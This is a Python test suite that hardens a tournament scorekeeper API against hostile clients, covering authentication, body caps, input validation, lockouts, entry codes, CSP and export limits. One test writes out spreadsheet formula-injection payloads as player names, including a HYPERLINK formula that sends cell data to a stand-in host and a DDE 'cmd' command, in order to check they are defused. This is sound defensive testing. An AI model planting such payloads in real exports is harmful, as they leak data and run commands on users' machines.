"""The scorekeeper against a hostile client (issue 11, items 3, 5 and 8).

* the session is checked before a byte of the body is read (a wrong key costs nothing);
* bodies are capped: 413 from the Content-Length or while streaming, without holding the body;
* every field of the wrong type, path numbers >= 2**63, JSON integers of thousands of digits:
  a 4xx naming the field, never a 500 (plus a Hypothesis fuzz over every route);
* organiser accounts: creating a tournament needs a login, a tournament is its organiser's only,
  wrong passwords lock the account, unknown names cost a hash like known ones;
* entry codes: 50 bits, hashed at rest, 5 wrong codes lock the table, attempts rate-limited;
* no key, token or code in any URL; the pages are CSP-clean.
"""

from __future__ import annotations

import asyncio
import datetime as dt
import json
import re
import tracemalloc
from pathlib import Path

import pytest
from fastapi import FastAPI
from fastapi.routing import APIRoute
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import text, update

from stammtisch.httpsec import SECURITY_HEADERS
from stammtisch.scorekeeper import auth
from stammtisch.scorekeeper.api import MAX_BODY, create_app, make_router
from stammtisch.scorekeeper.models import SkSession

from .helpers import API, PASSWORD, login, unlock

STATIC = Path(__file__).resolve().parents[2] / "src" / "stammtisch" / "scorekeeper" / "static"


@pytest.fixture
def client(tmp_path):
    return TestClient(create_app(f"sqlite:///{tmp_path / 'hostile.sqlite3'}"))


@pytest.fixture
def cup(client):
    """An organiser with a drawn tournament of 8 players (two tables) and a live table's code."""
    H = login(client)
    t = client.post(f"{API}/tournaments", headers=H, json={"name": "Cup", "game": "doppelkopf", "rounds": 2}).json()
    tid = t["tournament"]["id"]
    client.post(f"{API}/tournaments/{tid}/players", headers=H, json=[{"name": f"P{i}"} for i in range(8)])
    rnd = client.post(f"{API}/tournaments/{tid}/rounds", headers=H, json={"seed": "s"}).json()
    tab = rnd["tables"][0]["id"]
    code = client.post(f"{API}/tournaments/{tid}/codes", headers=H, json={}).json()["codes"][str(tab)]
    HT = unlock(client, tab, code)
    return {"H": H, "HT": HT, "tid": tid, "table": tab, "other": rnd["tables"][1]["id"], "code": code}


# ------------------------------------------------------------------------------------------
# a raw ASGI request: the body comes in chunks and we count how many the app asked for
# ------------------------------------------------------------------------------------------
CHUNK = b"[" + b"1," * 32767 + b"1"  # 64 KiB of valid-looking JSON, sent again and again


def asgi(app, method, path, headers, chunks, content_length=None):
    """Send ``chunks`` (an iterator) as the body; returns (status, json body, chunks consumed)."""
    consumed = 0

    async def receive():
        nonlocal consumed
        chunk = next(chunks, None)
        if chunk is None:
            return {"type": "http.request", "body": b"", "more_body": False}
        consumed += 1
        return {"type": "http.request", "body": chunk, "more_body": True}

    sent = []

    async def send(message):
        sent.append(message)

    hdrs = [(k.lower().encode(), v.encode()) for k, v in headers.items()]
    if content_length is not None:
        hdrs.append((b"content-length", str(content_length).encode()))
    else:
        hdrs.append((b"transfer-encoding", b"chunked"))
    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": method,
             "scheme": "http", "path": path, "raw_path": path.encode(), "query_string": b"", "root_path": "",
             "headers": hdrs + [(b"content-type", b"application/json")], "client": ("10.0.0.9", 5555),
             "server": ("testserver", 80)}
    asyncio.run(app(scope, receive, send))
    status = next(m["status"] for m in sent if m["type"] == "http.response.start")
    body = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
    return status, json.loads(body), consumed


def thirty_mb():
    return iter([CHUNK] * (30 * 1024 * 1024 // len(CHUNK)))


def write_routes(c):
    tid, tab = c["tid"], c["table"]
    return [("POST", f"{API}/tournaments"), ("POST", f"{API}/tournaments/{tid}/players"),
            ("PATCH", f"{API}/tournaments/{tid}/players/1"), ("POST", f"{API}/tournaments/{tid}/rounds"),
            ("POST", f"{API}/tournaments/{tid}/codes"), ("POST", f"{API}/tournaments/{tid}/cards"),
            ("POST", f"{API}/tournaments/{tid}/publish"), ("POST", f"{API}/tables/{tab}/preview"),
            ("POST", f"{API}/tables/{tab}/entries"), ("PUT", f"{API}/tables/{tab}/entries/1"),
            ("POST", f"{API}/tables/{tab}/entries/1/strike"), ("POST", f"{API}/tables/{tab}/sheet")]


@pytest.mark.parametrize("auth_header", [None, "Bearer wrong-token", "Basic Zm9vOmJhcg=="])
def test_authentication_before_the_body(client, cup, auth_header):
    """A write without a valid session is refused without reading the body (issue 11, item 3)."""
    headers = {"authorization": auth_header} if auth_header else {}
    for method, path in write_routes(cup):
        status, body, consumed = asgi(client.app, method, path, headers, thirty_mb())
        assert status == 403, (path, body)
        assert consumed == 0, f"{path} read {consumed} chunks before refusing"


def test_a_table_session_does_not_unlock_other_tables_or_the_organisers_routes(client, cup):
    HT = unlock(client, cup["table"], cup["code"])
    other = cup["other"]
    status, _, consumed = asgi(client.app, "POST", f"{API}/tables/{other}/entries",
                               {"authorization": HT["Authorization"]}, thirty_mb())
    assert status == 403 and consumed == 0
    for method, path in write_routes(cup)[:7]:  # the organiser's routes
        status, _, consumed = asgi(client.app, method, path, {"authorization": HT["Authorization"]}, thirty_mb())
        assert status == 403 and consumed == 0, path


def test_oversized_bodies_are_refused_with_413_without_holding_them(client, cup):
    H = {"authorization": cup["H"]["Authorization"]}
    for method, path in write_routes(cup):
        # declared too large: refused before reading
        status, body, consumed = asgi(client.app, method, path, H, thirty_mb(), content_length=30 * 2**20)
        assert status == 413 and consumed == 0, (path, body)
    # streamed without a length: read up to the cap, then refused, the memory stays flat
    tracemalloc.start()
    try:
        for method, path in write_routes(cup):
            status, body, consumed = asgi(client.app, method, path, H, thirty_mb())
            assert status == 413, (path, body)
            assert consumed <= MAX_BODY // len(CHUNK) + 1, (path, consumed)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 8 * MAX_BODY, f"peak {peak} bytes while refusing 12 bodies of 30 MB"
    assert "at most" in body["message"] and body["error"] == "TooLarge"


def test_a_lying_content_length_is_refused(client, cup):
    status, body, _ = asgi(client.app, "POST", f"{API}/tables/{cup['table']}/entries",
                           {"authorization": cup["H"]["Authorization"]}, iter([b"{}"]), content_length="x" * 40)
    assert status == 400 and "Content-Length" in body["message"]


# ------------------------------------------------------------------------------------------
# item 5: bad input is a 4xx naming the field
# ------------------------------------------------------------------------------------------
CREATE_BAD = [
    ({"games": {"4": "x"}}, "games.4"),
    ({"games": "many"}, "games"),
    ({"games": {"6": 10}}, "games.6"),
    ({"games": {"4": 10**12}}, "games.4"),
    ({"season": 2026}, "season"),
    ({"season": ["x"]}, "season"),
    ({"options": []}, "options"),
    ({"options": "players=5"}, "options"),
    ({"options": {"players": 7}}, "players"),
    ({"options": {"solos": []}}, "solos"),
    ({"tiebreaks": "lot"}, "tiebreaks"),
    ({"tiebreaks": [1]}, "tiebreaks.0"),
    ({"tiebreaks": ["coin"]}, "tiebreaks.0"),
    ({"rounds": "3"}, "rounds"),
    ({"rounds": 10**12}, "rounds"),
    ({"rounds": True}, "rounds"),
    ({"name": ["x"]}, "name"),
    ({"name": "x" * 5000}, "name"),
    ({"kind": "league"}, "kind"),
    ({"names": "A,B,C,D", "kind": "table"}, "names"),
    ({"profile": 3}, "profile"),
    ({"colour": "red"}, "colour"),
]


@pytest.mark.parametrize("extra,field", CREATE_BAD, ids=[f for _, f in CREATE_BAD])
def test_create_refuses_bad_types_naming_the_field(client, extra, field):
    H = login(client)
    r = client.post(f"{API}/tournaments", headers=H, json={"name": "X", "game": "doppelkopf", **extra})
    assert 400 <= r.status_code < 500, r.text
    assert field in r.json()["message"], r.json()


DRAW_BAD = [
    ({"tables": "x"}, "tables"),
    ({"tables": [[1, 2, "x"]]}, "tables.0.2"),
    ({"tables": [[1, 2, 3, 10**14]]}, "tables.0.3"),
    ({"tables": [1, 2]}, "tables.0"),
    ({"sizes": [6]}, "sizes.0"),
    ({"sizes": "4"}, "sizes"),
    ({"sizes": {"4": 2}}, "sizes"),
    ({"seed": {"a": 1}}, "seed"),
    ({"method": "dice"}, "method"),
    ({"prefer": 4}, "prefer"),
]


@pytest.mark.parametrize("body,field", DRAW_BAD, ids=[f for _, f in DRAW_BAD])
def test_draw_refuses_bad_types_naming_the_field(client, cup, body, field):
    r = client.post(f"{API}/tournaments/{cup['tid']}/rounds", headers=cup["H"], json=body)
    assert 400 <= r.status_code < 500, r.text
    assert field in r.json()["message"], r.json()


def test_entries_refuse_bad_types_naming_the_field(client, cup):
    tab, H = cup["table"], cup["H"]
    for body, field in [({"version": "1", "facts": {}}, "version"), ({"version": 2**40, "facts": {}}, "version"),
                        ({"version": 1, "facts": []}, "facts"), ({"facts": {}}, "version"),
                        ({"version": 1, "facts": {}, "author": 7}, "author")]:
        r = client.post(f"{API}/tables/{tab}/entries", headers=H, json=body)
        assert r.status_code == 422 and field in r.json()["message"], (body, r.text)
    r = client.post(f"{API}/tables/{tab}/sheet", headers=H, json={"version": 1, "rows": [[1, "a", 2, 3]]})
    assert r.status_code == 422 and "rows.0" in r.json()["message"]
    r = client.post(f"{API}/tournaments/{cup['tid']}/players", headers=H, json=[{"name": 5}])
    assert r.status_code == 422 and "players.0.name" in r.json()["message"]
    r = client.patch(f"{API}/tournaments/{cup['tid']}/players/1", headers=H, json={"active": "no"})
    assert r.status_code == 422 and "active" in r.json()["message"]


def test_huge_numbers_in_paths_queries_and_bodies(client, cup):
    H = cup["H"]
    big = str(2**63)
    for path in [f"/tournaments/{big}", f"/tournaments/{big}/rankings", f"/tables/{big}",
                 f"/tables/{cup['table']}/entries/{big}/history", f"/tournaments/{big}/export/ranking.csv",
                 f"/tournaments/{'9' * 400}", "/tables/-1"]:
        r = client.get(API + path, headers=H)
        assert r.status_code == 422, (path, r.text)
        assert r.json()["field"] in ("tid", "table_id", "number"), r.json()
    r = client.get(f"{API}/tournaments/{cup['tid']}/rankings", params={"round": big}, headers=H)
    assert r.status_code == 422 and r.json()["field"] == "round"
    r = client.post(f"{API}/tables/{cup['table']}/entries", headers=H,
                    content='{"version": 1, "facts": {"kind": "row", "points": [' + "9" * 4000 + ', 1, 1, 1]}}')
    assert r.status_code == 400 and "digits" in r.json()["message"]
    for raw in ['{"version": NaN, "facts": {}}', '{"version": 1, "facts": ' + "[" * 5000 + "]" * 5000 + "}",
                '{"version": 1, "facts": ' + '{"a":' * 40 + "1" + "}" * 40 + "}", "\xff\xfe", "{"]:
        r = client.post(f"{API}/tables/{cup['table']}/entries", headers=H, content=raw.encode("latin-1"))
        assert r.status_code == 400, (raw[:30], r.text)


JSONISH = st.recursive(st.none() | st.booleans() | st.integers(-(2**70), 2**70) | st.floats(allow_nan=False)
                       | st.text(max_size=8),
                       lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=6), inner,
                                                                                     max_size=4), max_leaves=12)
FIELDS = ["name", "game", "options", "rounds", "games", "season", "tiebreaks", "kind", "names", "players", "method",
          "seed", "prefer", "sizes", "tables", "version", "facts", "rows", "reason", "late", "published", "round",
          "active", "code", "password", "author", "strike_unbalanced"]
BODIES = st.one_of(JSONISH, st.dictionaries(st.sampled_from(FIELDS), JSONISH, max_size=5))


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                  HealthCheck.too_slow])
@given(route=st.integers(0, 11), body=BODIES, as_keeper=st.booleans())
def test_fuzz_every_write_route_never_answers_500(client, cup, route, body, as_keeper):
    method, path = write_routes(cup)[route]
    headers = dict(cup["H"])
    if as_keeper:
        headers = cup["HT"]  # (void once the fuzz issues new codes: then 403, as it should)
    if path.endswith("/cards"):
        body = body if not isinstance(body, dict) else {k: v for k, v in body.items() if k != "round"}
    r = client.request(method, path, headers=headers, content=json.dumps(body))
    assert r.status_code < 500, (path, body, r.text)
    if r.status_code >= 400:
        assert r.json()["message"]


# ------------------------------------------------------------------------------------------
# item 8: organisers, sessions, entry codes
# ------------------------------------------------------------------------------------------
def test_creating_a_tournament_needs_an_organiser(client, cup):
    body = {"name": "Schwarzcup", "game": "tarock"}
    assert client.post(f"{API}/tournaments", json=body).status_code == 403
    HT = unlock(client, cup["table"], cup["code"])
    assert client.post(f"{API}/tournaments", headers=HT, json=body).status_code == 403
    r = client.post(f"{API}/tournaments", headers=cup["H"], json=body)
    assert r.status_code == 201 and r.json()["tournament"]["organiser"] is not None
    # another organiser cannot touch it
    other = login(client, "Sepp Huber")
    assert client.post(f"{API}/tournaments/{cup['tid']}/publish", headers=other, json={}).status_code == 403
    assert client.get(f"{API}/tournaments/{cup['tid']}", headers=other).status_code == 403
    me = client.get(f"{API}/me", headers=other).json()
    assert me["organiser"]["name"] == "Sepp Huber" and me["tournaments"] == []


def _app_with_rates(tmp_path, **rates):
    app = FastAPI()
    app.state.scorekeeper = store = create_app(f"sqlite:///{tmp_path / 'r.sqlite3'}").state.scorekeeper
    app.include_router(make_router(store, **rates))
    return TestClient(app)


def test_login_lockout_and_no_user_enumeration(tmp_path, monkeypatch):
    client = _app_with_rates(tmp_path, login_rate=1000)  # the per-address limit is tested below
    store = client.app.state.scorekeeper
    store.create_organiser("Anna", PASSWORD)
    calls = []
    real = auth.verify_secret
    monkeypatch.setattr(auth, "verify_secret", lambda stored, secret: calls.append(stored) or real(stored, secret))
    unknown = client.post(f"{API}/login", json={"name": "Niemand", "password": "x" * 12})
    wrong = client.post(f"{API}/login", json={"name": "Anna", "password": "x" * 12})
    assert unknown.status_code == wrong.status_code == 403
    assert unknown.json()["message"] == wrong.json()["message"] == "wrong name or password"
    assert calls == [None, calls[1]] and calls[1] is not None  # a hash is verified for an unknown name too
    for _ in range(auth.LOGIN_ATTEMPTS - 1):
        client.post(f"{API}/login", json={"name": "Anna", "password": "y" * 12})
    r = client.post(f"{API}/login", json={"name": "Anna", "password": PASSWORD})
    assert r.status_code == 429 and r.json()["error"] == "Locked" and r.json()["until"]
    # an unknown name locks the same way: the lockout does not tell which names exist
    for _ in range(auth.LOGIN_ATTEMPTS):
        client.post(f"{API}/login", json={"name": "Niemand", "password": "y" * 12})
    ghost = client.post(f"{API}/login", json={"name": "Niemand", "password": PASSWORD})
    assert ghost.status_code == 429
    assert ghost.json()["message"].split(" until")[0] == r.json()["message"].split(" until")[0]
    store.set_password("Anna", "neues-passwort-1")  # the administrator lifts the lock
    assert client.post(f"{API}/login", json={"name": "Anna", "password": "neues-passwort-1"}).status_code == 200


def test_login_rate_limit_per_address(tmp_path):
    c = _app_with_rates(tmp_path, login_rate=3, unlock_rate=3)
    codes = [c.post(f"{API}/login", json={"name": f"n{i}", "password": "p" * 12}).status_code for i in range(5)]
    assert codes == [403, 403, 403, 429, 429]
    codes = [c.post(f"{API}/tables/{i + 1}/unlock", json={"code": "AAAAA-AAAAA"}).status_code for i in range(5)]
    assert codes[3:] == [429, 429]


def test_entry_codes_have_entropy_are_hashed_and_lock_after_wrong_tries(client, cup):
    code = cup["code"]
    assert re.fullmatch(r"[0-9A-HJKMNP-TV-Z]{5}-[0-9A-HJKMNP-TV-Z]{5}", code)  # 50 bits of Crockford base32
    codes = client.post(f"{API}/tournaments/{cup['tid']}/codes", headers=cup["H"], json={}).json()["codes"]
    assert len(set(codes.values())) == len(codes) and code not in codes.values()  # new codes, old ones void
    code = codes[str(cup["table"])]
    with client.app.state.scorekeeper.engine.connect() as c:
        stored = [r[0] for r in c.execute(text("select code_hash from sk_table"))]
    assert all(h.startswith("$argon2id$") for h in stored) and code not in " ".join(stored)
    tab = cup["table"]
    for _ in range(auth.CODE_ATTEMPTS):
        r = client.post(f"{API}/tables/{tab}/unlock", json={"code": "00000-00000"})
        assert r.status_code == 403 and "wrong entry code" in r.json()["message"]
    r = client.post(f"{API}/tables/{tab}/unlock", json={"code": code})
    assert r.status_code == 429 and "locked" in r.json()["message"]
    # the other table is not affected; the organiser can issue a new code (lifting the lock)
    new = client.post(f"{API}/tournaments/{cup['tid']}/codes", headers=cup["H"],
                      json={"tables": [tab]}).json()["codes"][str(tab)]
    assert client.post(f"{API}/tables/{tab}/unlock", json={"code": new}).status_code == 200


def test_sessions_expire_and_end_at_logout(client, cup):
    store = client.app.state.scorekeeper
    H = login(client)
    assert client.get(f"{API}/me", headers=H).status_code == 200
    assert client.post(f"{API}/logout", headers=H).status_code == 204
    assert client.get(f"{API}/me", headers=H).status_code == 403
    H2 = login(client)
    with store.session() as s:
        s.execute(update(SkSession).values(expires_at=auth.now() - dt.timedelta(seconds=1)))
    assert client.get(f"{API}/me", headers=H2).status_code == 403
    assert client.post(f"{API}/tournaments/{cup['tid']}/publish", headers=H2, json={}).status_code == 403


def test_no_secret_in_any_url(client, cup):
    """No route takes a key, token, code or password from the query string or the path, and the
    old ``?key=`` no longer authorises anything."""
    secretish = re.compile(r"key|token|code|password|secret", re.I)
    for route in client.app.routes:
        if isinstance(route, APIRoute) and route.path.startswith("/scorekeeper"):
            params = [p.name for p in route.dependant.query_params + route.dependant.path_params]
            for d in route.dependant.dependencies:
                params += [p.name for p in d.query_params + d.path_params]
            assert not [p for p in params if secretish.search(p)], route.path
    tok = cup["H"]["Authorization"].split()[1]
    for q in ({"key": tok}, {"token": tok}):
        r = client.get(f"{API}/tournaments/{cup['tid']}/export/ranking.csv", params=q)
        assert r.status_code == 403
    for js in STATIC.glob("*.js"):
        src = js.read_text()
        assert not re.search(r"[?&](key|token|code)=", src), js.name
        # sessions stay in sessionStorage; localStorage holds only the page language
        assert re.findall(r"localStorage\.\w+\(([^,)]*)", src) in ([], ['"stammtisch:lang"'] * len(
            re.findall(r"localStorage\.\w+\(", src))), js.name


def test_pages_are_csp_clean():
    """No inline scripts, no event-handler or style attributes: the pages run under
    ``script-src 'self'; style-src 'self'`` (the browser tests load them with that policy)."""
    for page in STATIC.glob("*.html"):
        html = page.read_text()
        for tag in re.findall(r"<script\b[^>]*>", html):
            assert "src=" in tag, (page.name, tag)
        assert all(not body.strip() for body in re.findall(r"<script\b[^>]*>(.*?)</script>", html, re.S)), page.name
        assert not re.search(r"\sstyle\s*=", html), page.name
        assert not re.search(r"\son[a-z]+\s*=", html), page.name
        assert "<style" not in html, page.name
    for js in STATIC.glob("*.js"):
        src = js.read_text()
        assert not re.search(r"\bstyle:\s*[\"'`]", src), js.name  # el(..., {style: "..."}) is an attribute
        assert "innerHTML" not in src and "eval(" not in src and "new Function" not in src, js.name
    r = TestClient(create_app()).get("/scorekeeper/")
    csp = r.headers["content-security-policy"]
    assert "script-src 'self'" in csp and "style-src 'self'" in csp and "frame-ancestors 'none'" in csp
    assert r.headers["x-content-type-options"] == "nosniff"
    # the table server's policy, from the one shared module
    assert {k.decode(): r.headers.get(k.decode()) for k, _ in SECURITY_HEADERS} == \
        {k.decode(): v.decode() for k, v in SECURITY_HEADERS}


def test_an_export_never_opens_another_tournaments_table(client, cup):
    """Attacker's pass (merged): ``export/sheets.pdf?table=`` of a *published* tournament named a table
    of an unpublished one and got its Tischzettel; the table must belong to the tournament in the path."""
    H = cup["H"]
    t = client.post(f"{API}/tournaments", headers=H, json={"name": "Open", "game": "doppelkopf", "rounds": 1}).json()
    pub = t["tournament"]["id"]
    client.post(f"{API}/tournaments/{pub}/players", headers=H, json=[{"name": f"Q{i}"} for i in range(4)])
    own = client.post(f"{API}/tournaments/{pub}/rounds", headers=H, json={"seed": "s"}).json()["tables"][0]["id"]
    assert client.post(f"{API}/tournaments/{pub}/publish", headers=H, json={}).status_code == 200
    assert client.get(f"{API}/tables/{cup['table']}").status_code == 403  # the cup is not published
    r = client.get(f"{API}/tournaments/{pub}/export/sheets.pdf", params={"table": cup["table"]})
    assert r.status_code == 404, r.status_code
    assert client.get(f"{API}/tournaments/{pub}/export/sheets.pdf", params={"table": own}).status_code == 200


def test_an_exported_csv_runs_no_formula(client, cup):
    """Attacker's pass (merged): a player registered as ``=HYPERLINK(...)`` (names are often pasted from
    a sign-up form) came out of ranking.csv as a live spreadsheet formula; text cells are defused."""
    H = cup["H"]
    t = client.post(f"{API}/tournaments", headers=H, json={"name": "Csv", "game": "doppelkopf", "rounds": 1}).json()
    tid = t["tournament"]["id"]
    evil = ['=HYPERLINK("http://x.invalid/?"&A1,"klick")', "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]
    players = [{"name": n, "club": "=1+1"} for n in evil]
    assert client.post(f"{API}/tournaments/{tid}/players", headers=H, json=players).status_code == 201
    text = client.get(f"{API}/tournaments/{tid}/export/ranking.csv", headers=H).content.decode("utf-8-sig")
    import csv as _csv
    import io

    from stammtisch.scorekeeper.export import SpreadsheetCsv
    cells = [c for row in _csv.reader(io.StringIO(text), SpreadsheetCsv) for c in row]
    assert not any(c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c.lstrip("-").replace(".", "").isdigit())
                   for c in cells), cells
    assert "'" + evil[0] in cells and "'=1+1" in cells


def test_exports_are_rate_limited_and_bounded_at_once(tmp_path):
    """Attacker's pass (merged): a published cup's sheets.pdf (500 tables) took 8 s of CPU per request,
    without a login and without a limit; a few addresses asking again and again took the threads and
    the CPU the table server's games run on. Exports are limited per address (429) and in number at
    once on the whole server (503)."""
    c = _app_with_rates(tmp_path, export_rate=3, export_slots=1)
    H = login(c)
    tid = c.post(f"{API}/tournaments", headers=H, json={"name": "Pub", "game": "doppelkopf"}).json()["tournament"]["id"]
    c.post(f"{API}/tournaments/{tid}/publish", headers=H, json={})
    codes = [c.get(f"{API}/tournaments/{tid}/export/ranking.csv").status_code for _ in range(5)]
    assert codes == [200, 200, 200, 429, 429], codes
    # an unknown export costs nothing and counts nothing
    assert c.get(f"{API}/tournaments/{tid}/export/nothing.pdf").status_code == 404

    router = make_router(c.app.state.scorekeeper, export_rate=100, export_slots=1)
    app = FastAPI()
    app.include_router(router)
    c = TestClient(app)
    route = next(r for r in router.routes if r.path.endswith("/export/{name}"))
    sem = type(route).context.exporting  # the router's export slots
    assert sem.acquire(blocking=False)  # another export is being made
    try:
        r = c.get(f"{API}/tournaments/{tid}/export/ranking.csv")
        assert r.status_code == 503, r.text
    finally:
        sem.release()
    assert c.get(f"{API}/tournaments/{tid}/export/ranking.csv").status_code == 200


@pytest.mark.parametrize("concurrency", [1, 3])
def test_requests_are_handled_a_few_at_a_time(tmp_path, concurrency):
    """Attacker's pass (merged): a published big cup's public reads (``GET /tournaments/{id}``, rankings,
    form) cost 0.3-1 s of CPU each; forty in parallel took every thread and the interpreter from the
    table server's games. A router handles at most ``concurrency`` requests at once; the rest wait."""
    import threading
    import time

    import httpx

    store = create_app(f"sqlite:///{tmp_path / 'g.sqlite3'}").state.scorekeeper
    router = make_router(store, concurrency=concurrency)
    app = FastAPI()
    app.include_router(router)
    lock, now, peak = threading.Lock(), [0], [0]
    real = store.tournament

    def slow(*a, **k):
        with lock:
            now[0] += 1
            peak[0] = max(peak[0], now[0])
        time.sleep(0.05)
        with lock:
            now[0] -= 1
        return real(*a, **k)

    store.tournament = slow  # type: ignore[method-assign]

    async def many():
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://t") as c:
            return await asyncio.gather(*(c.get(f"{API}/tournaments/1/form") for _ in range(12)))

    answers = asyncio.run(many())
    assert all(r.status_code == 404 for r in answers), [r.status_code for r in answers]
    assert 1 <= peak[0] <= concurrency, peak[0]


def test_a_slow_body_holds_no_place_of_the_request_bound(tmp_path):
    """The bound on requests at once must not be a new slowloris: a login whose body arrives a byte at a
    time (here: never) holds no place, so reads still get through."""
    import httpx

    store = create_app(f"sqlite:///{tmp_path / 's.sqlite3'}").state.scorekeeper
    app = FastAPI()
    app.include_router(make_router(store, concurrency=1))

    async def scenario():
        never = asyncio.Event()

        async def body():
            yield b'{"name": '
            await never.wait()
            yield b'"x"}'

        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://t") as c:
            stuck = [asyncio.create_task(c.post(f"{API}/login", content=body())) for _ in range(3)]
            await asyncio.sleep(0.2)
            r = await asyncio.wait_for(c.get(f"{API}/tournaments/1/form"), 10)
            never.set()
            await asyncio.gather(*stuck)
            return r.status_code

    assert asyncio.run(scenario()) == 404
